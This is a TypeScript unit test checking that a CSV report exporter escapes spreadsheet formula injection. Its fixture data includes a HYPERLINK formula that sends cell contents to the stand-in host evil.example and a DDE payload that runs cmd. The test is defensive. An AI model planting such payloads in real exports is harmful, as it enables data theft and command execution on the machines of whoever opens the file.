import { parse } from 'csv-parse/sync';
import type { EffectivenessReport } from '@app/task-forces';
import { reportCsv } from './report-csv';

describe('reportCsv', () => {
  it('quotes text a spreadsheet would run as a formula, and leaves numbers as numbers', () => {
    const report = {
      asOf: '2026-04-02',
      indicators: [
        {
          indicator: { metricName: '=HYPERLINK("https://evil.example/?"&A1,"open")', baselineOn: '2026-01-01', baselineValue: -3, unit: '@count', targetOn: '2026-06-01', targetValue: 10 },
          measurements: [{ measuredOn: '2026-02-01', value: -1, sourceNote: '+cmd|" /C calc"!A0' }],
          progress: { progress: 0.5, status: 'ON_TRACK', explanation: 'Halfway' },
        },
      ],
      actionItems: { overdue: 1 },
      meetingsHeld: 2,
      meetingsUpcoming: 1,
      meetingsAwaitingReport: 0,
      attendance: [{ name: '-Eastbrook Schools', attended: 2, expected: 2, rate: 1 }],
      participationRate: 1,
    } as unknown as EffectivenessReport;

    const rows = parse(reportCsv(report), { columns: true }) as Record<string, string>[];
    const measurement = rows.find((r) => r.section === 'measurement')!;
    expect(measurement).toMatchObject({ name: `'=HYPERLINK("https://evil.example/?"&A1,"open")`, unit: "'@count", value: '-1', baseline: '-3', note: `'+cmd|" /C calc"!A0` });
    expect(rows.find((r) => r.section === 'attendance')!.name).toBe("'-Eastbrook Schools");
  });
});
